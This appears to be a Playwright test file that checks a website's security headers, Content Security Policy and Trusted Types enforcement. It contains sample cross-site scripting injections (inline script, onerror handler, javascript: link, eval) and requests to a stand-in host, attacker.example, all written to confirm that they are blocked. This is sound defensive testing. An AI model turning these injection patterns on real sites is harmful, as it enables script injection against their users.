import { expect } from '@playwright/test';
import { test } from './strike';
import { from } from './app';
import { address, open, watchProblems } from './site';

declare global {
  interface Window {
    /** The trace that an injected script would leave. */
    injected?: boolean;
  }
}

test('every response has the headers that protect readers', async ({ request }) => {
  for (const path of ['/', '/docs/welcome', '/page-data/app-data.json', '/favicon.svg', '/no/such/page']) {
    const headers = (await request.get(address(path))).headers();
    expect(headers['x-content-type-options'], path).toBe('nosniff');
    expect(headers['referrer-policy'], path).toBe('same-origin');
    expect(headers['cross-origin-opener-policy'], path).toBe('same-origin');
    expect(headers['permissions-policy'], path).toContain('camera=()');
    const [scripts = ''] = /script-src [^;]*/.exec(headers['content-security-policy'] ?? '') ?? [];
    expect(scripts, path).toMatch(/^script-src 'self'( 'sha256-[\w+/]{43}=')+$/);
    expect(headers['content-security-policy'], path).toContain("require-trusted-types-for 'script'");
  }
});

const attacks: Record<string, () => void> = {
  'an inline script': () => {
    const script = document.createElement('script');
    script.textContent = 'window.injected = true';
    document.body.append(script);
  },
  'an event handler': () => {
    document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.injected = true">');
  },
  'a javascript: address': () => {
    document.body.insertAdjacentHTML('beforeend', '<a id="attack" href="javascript:window.injected = true">x</a>');
    document.getElementById('attack')?.click();
  },
  'text as code': () => {
    setTimeout(window.eval, 0, 'window.injected = true');
  },
  "another site's script": () => {
    const script = document.createElement('script');
    script.src = 'https://attacker.example/x.js';
    document.body.append(script);
  },
};

/** Each attack meets Trusted Types first; an engine without them is left with the rest of the policy. */
const engines = { 'an engine with Trusted Types': /^require-trusted-types-for$/, 'an engine without': /^script-src/ };

const cases = Object.entries(attacks).flatMap(([what, attack]) =>
  Object.entries(engines).map(([engine, directive]) => ({ what, attack, engine, directive })),
);
for (const { what, attack, engine, directive } of cases)
  test(`${what} in a page does not run in ${engine}`, async ({ page, strike }) => {
    const unprotected = address('/page-without-a-policy/');
    await strike(`**${unprotected}`, (route) => route.fulfill({ contentType: 'text/html', body: '<body></body>' }));
    await page.route('https://attacker.example/**', (route) => route.fulfill({ body: 'window.injected = true' }));
    await page.goto(unprotected);
    await page.evaluate(attack);
    await expect.poll(() => page.evaluate(() => window.injected), 'it would run without the policy').toBe(true);

    if (engine === 'an engine without')
      await strike(`**${address(from)}`, async (route) => {
        const response = await route.fetch();
        const headers = response.headers();
        const policy = headers['content-security-policy']?.replace(";require-trusted-types-for 'script'", '');
        expect(policy).not.toBe(headers['content-security-policy']);
        await route.fulfill({ response, headers: { ...headers, 'content-security-policy': policy ?? '' } });
      });
    await open(page, from);
    const violations = page.evaluate(
      () =>
        new Promise<string>((resolve) =>
          addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true }),
        ),
    );
    // The policy does not apply to code that a test evaluates, but to what that code adds to the page.
    await page.evaluate(attack).catch(() => undefined);
    expect(await violations).toMatch(directive);
    expect(await page.evaluate(() => window.injected)).toBeUndefined();
  });

test('what the policy blocks is a problem of the page for every other test', async ({ page }) => {
  await open(page, from);
  const problems = watchProblems(page);
  await page.evaluate(() => {
    new Image().src = 'https://attacker.example/x';
  });
  await expect
    .poll(() => problems.filter((problem) => problem.includes('Content Security Policy')).length)
    .toBeGreaterThan(0);
});

test('where a host sends no policy, a page works, and asks no other site for anything', async ({ page, strike }) => {
  await strike(`**${address(from)}`, async (route) => {
    const response = await route.fetch();
    const { 'content-security-policy': policy, ...headers } = response.headers();
    expect(policy).toContain("default-src 'self'");
    await route.fulfill({ response, headers });
  });
  const problems = watchProblems(page);
  const asked: string[] = [];
  await page.route('https://attacker.example/**', (route) => {
    asked.push(route.request().url());
    return route.fulfill({ body: '' });
  });
  await open(page, from);
  expect(problems).toEqual([]);
  const blocked = await page.evaluate(async () => {
    const seen: string[] = [];
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => seen.push(effectiveDirective));
    document.body.insertAdjacentHTML('beforeend', '<img src="https://attacker.example/x.png">');
    document.body.insertAdjacentHTML('beforeend', '<iframe src="https://attacker.example/"></iframe>');
    await fetch('https://attacker.example/x').catch(() => undefined);
    while (seen.length < 3) await new Promise((resolve) => requestAnimationFrame(resolve));
    return seen.sort();
  });
  expect(blocked).toEqual(['connect-src', 'frame-src', 'img-src']);
  expect(asked).toEqual([]);
});

test('no page can be shown in a frame', async ({ page, strike }) => {
  const outer = address('/frame-of-an-attacker/');
  await strike(`**${outer}`, (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${address(from)}"></iframe>` }),
  );
  await page.goto(outer);
  expect(page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
});
